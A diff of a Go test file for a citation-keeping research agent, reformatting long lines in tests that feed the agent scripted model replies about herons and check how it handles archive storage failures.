@@ -689,7 +762,8 @@ func TestTheLastResultIsCutLeast(t *testing.T) {
 	s := newShelf()
 	page := "https://long.example/"
 	s.pages[page] = strings.Repeat("The reeds at the lake were cut in winter by the wardens of the trust. ", 120)
-	m := &script{window: 5000, replies: []reply{calls(call("extract_page_content_tool", args{"reasoning": "it is named", "urls": []string{page}})),
+	m := &script{window: 5000, replies: []reply{calls(call("extract_page_content_tool",
+		args{"reasoning": "it is named", "urls": []string{page}})),
 		calls(finalCall("Nothing in these sources answers the task."))}}
 	o := s.options(agent.ShapeToolCalling, m)
 	o.Limits = agent.Limits{MaxIterations: 10, MaxSearches: 3, MaxResults: 10, MaxTokens: 500, ContentLimit: 9000}
@@ -724,7 +798,8 @@ func (k almostKeeper) PutSnapshot(ctx context.Context, page citewell.Page, doc c
 	return cmp.Or(k.lose("snapshot"), k.Archive.PutSnapshot(ctx, page, doc))
 }
 
-func (k almostKeeper) AddSource(ctx context.Context, brief string, s citewell.Source, passages []citewell.Passage) error {
+func (k almostKeeper) AddSource(ctx context.Context, brief string, s citewell.Source,
+	passages []citewell.Passage) error {
 	return cmp.Or(k.lose("source"), k.Archive.AddSource(ctx, brief, s, passages))
 }
 
@@ -738,13 +813,17 @@ func TestWhatCodeReadsIsKept(t *testing.T) {
 	synctest.Test(t, func(t *testing.T) {
 		for _, loses := range []string{"snapshot", ""} {
 			shelf := newShelf()
-			m := &script{replies: []reply{calls(searchFor("herons")), failing(citewell.CodeModelFailed), failing(citewell.CodeModelFailed), failing(citewell.CodeModelFailed)}}
-			a, err := agent.New(agent.Options{Shape: agent.ShapeToolCalling, Model: m, Searcher: shelf, Reader: shelf, Archive: almostKeeper{&keeper{journal: &tape{}, kept: map[string]keptAt{}}, loses}, Journal: agent.NewMemoryJournal()})
+			m := &script{replies: []reply{calls(searchFor("herons")), failing(citewell.CodeModelFailed),
+				failing(citewell.CodeModelFailed), failing(citewell.CodeModelFailed)}}
+			a, err := agent.New(agent.Options{Shape: agent.ShapeToolCalling, Model: m, Searcher: shelf, Reader: shelf,
+				Archive: almostKeeper{&keeper{journal: &tape{}, kept: map[string]keptAt{}}, loses},
+				Journal: agent.NewMemoryJournal()})
 			if err != nil {
 				t.Fatal(err)
 			}
 			r, err := a.Run(t.Context(), agent.Task{ID: "test_1", Text: heronTask})
-			if loses == "" && (err != nil || !strings.Contains(r.Answer, "312")) || loses != "" && citewell.CodeOf(err) != citewell.CodeStoreFailed {
+			if loses == "" && (err != nil || !strings.Contains(r.Answer, "312")) || loses != "" &&
+				citewell.CodeOf(err) != citewell.CodeStoreFailed {
 				t.Errorf("loses %q: %v, %q", loses, err, r.Answer)
 			}
 		}
@@ -756,8 +835,11 @@ func TestWhatCodeReadsIsKept(t *testing.T) {
 func TestWhatIsNotKeptIsNotPublished(t *testing.T) {
 	for _, loses := range []string{"snapshot", "source", "brief", ""} {
 		shelf := newShelf()
-		m := &script{replies: []reply{calls(searchFor("herons")), calls(readHerons), calls(finalCall("The wardens counted 312 grey herons at Alder Lake in the spring of 2024 [2].")), words("312 [2].")}}
-		a, err := agent.New(agent.Options{Shape: agent.ShapeToolCalling, Model: m, Searcher: shelf, Reader: shelf, Archive: almostKeeper{newStore(t), loses}, Journal: agent.NewMemoryJournal()})
+		m := &script{replies: []reply{calls(searchFor("herons")), calls(readHerons),
+			calls(finalCall("The wardens counted 312 grey herons at Alder Lake in the spring of 2024 [2].")),
+			words("312 [2].")}}
+		a, err := agent.New(agent.Options{Shape: agent.ShapeToolCalling, Model: m, Searcher: shelf, Reader: shelf,
+			Archive: almostKeeper{newStore(t), loses}, Journal: agent.NewMemoryJournal()})
 		if err != nil {
 			t.Fatal(err)
 		}
